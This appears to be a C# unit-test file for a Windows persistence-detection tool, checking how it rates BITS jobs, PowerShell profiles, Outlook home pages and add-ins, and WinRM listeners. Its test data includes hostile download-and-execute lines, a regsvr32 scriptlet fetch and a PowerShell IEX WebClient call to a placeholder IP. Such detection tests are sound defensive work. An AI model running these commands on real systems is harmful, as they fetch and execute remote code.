using Afterpatch.Analysis.Detectors.Defence;
using Afterpatch.Analysis.Detectors.Persistence;
using Afterpatch.Core;
using Xunit;
using static Afterpatch.Analysis.Tests.Detectors.Persistence.Facts;

namespace Afterpatch.Analysis.Tests.Detectors.Persistence;

/// <summary>Ways to be started again that few use: transfer jobs, profiles of PowerShell, Outlook, remote management.</summary>
public sealed class MechanismTests
{
    [Theory]
    [InlineData(@"C:\Windows\System32\cmd.exe /c C:\Users\Public\a.bat", Severity.High)]
    [InlineData(@"C:\ProgramData\u.exe", Severity.High)]
    [InlineData(@"C:\Tools\done.exe", Severity.Medium)]
    [InlineData(@"regsvr32.exe /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll", Severity.High)]
    [InlineData(@"C:\Program Files\Vendor\Updater\done.exe", Severity.Low)]
    public void A_transfer_job_that_starts_a_program_is_judged_by_it(string command, Severity severity)
    {
        var finding = Assert.Single(Run(new BitsJobDetector(), Job("1", command), Job("1", command)));
        Assert.Equal(("persistence.bits-job", FindingState.Active, 2), (finding.Detector, finding.State, finding.Evidence.Count));
        Assert.Equal(severity, finding.Severity);
    }

    [Fact]
    public void A_transfer_job_that_only_fetches_is_quiet() =>
        Assert.Empty(Run(new BitsJobDetector(), Item("bits-job", "Microsoft Office Click-to-Run", "unknown", ("id", "1"), ("state", "suspended"), ("addresses", "https://officecdn.microsoft.com/x"))));

    [Theory]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')", true)]
    [InlineData(@"C:\Users\admin\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1", "Set-Alias ll ls\r\n& C:\\Users\\Public\\svc.exe\r\n", true)]
    [InlineData(@"C:\Program Files\PowerShell\7\profile.ps1", "Start-Process -FilePath C:\\Windows\\Temp\\a.exe", true)]
    [InlineData(@"C:\Users\admin\Documents\PowerShell\profile.ps1", "Set-Alias ll Get-ChildItem\r\nfunction prompt { \"$pwd> \" }\r\nImport-Module ActiveDirectory\r\n", false)]
    [InlineData(@"C:\Users\admin\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1", ". 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\RemoteExchange.ps1'; Connect-ExchangeServer -auto", false)]
    [InlineData(@"D:\Scripts\profile.ps1", "& C:\\Users\\Public\\svc.exe", false)]
    public void A_profile_of_PowerShell_is_judged_by_what_it_does(string path, string text, bool isTold)
    {
        var findings = Run(new StartedFileDetector(), new ScriptSighting { At = new EvidencePointer(path), Path = path, Family = "file", Text = text });
        Assert.Equal(isTold ? ["persistence.powershell-profile"] : [], findings.Select(finding => finding.Detector));
    }

    [Theory]
    [InlineData("Outlook home page", "http://203.0.113.7/inbox.html", Severity.High)]
    [InlineData("Outlook home page", @"C:\Users\admin\AppData\Local\Temp\h.htm", Severity.High)]
    [InlineData("Outlook home page", "res://outlwvw.dll/outlook.htm", Severity.Informational)]
    [InlineData("Outlook add-in", @"C:\Users\Public\a.vsto", Severity.Medium)]
    [InlineData("Outlook add-in", @"\\203.0.113.7\s\a.vsto", Severity.High)]
    [InlineData("Outlook add-in", @"C:\Program Files\Vendor\a.vsto", Severity.Informational)]
    public void Outlooks_home_pages_and_add_ins_are_judged_by_where_they_lead(string location, string command, Severity severity) =>
        Assert.Equal(severity, Blind.Worst(location, command));

    [Theory]
    [InlineData("8443", true)]
    [InlineData("5985", false)]
    [InlineData("", false)]
    public void A_listener_of_remote_management_is_told_on_a_port_of_somebodys_choice(string port, bool isTold) =>
        Assert.Equal(isTold ? ["defence.winrm-listener"] : [], Run(new DefenceDetector(), Item("winrm-listener", "*+HTTP", "unknown", ("port", port))).Select(finding => finding.Detector));

    private static InventoryRecord Job(string id, string command) => Item("bits-job", "night", "unknown", ("id", id), ("command", command), ("state", "error"));
}
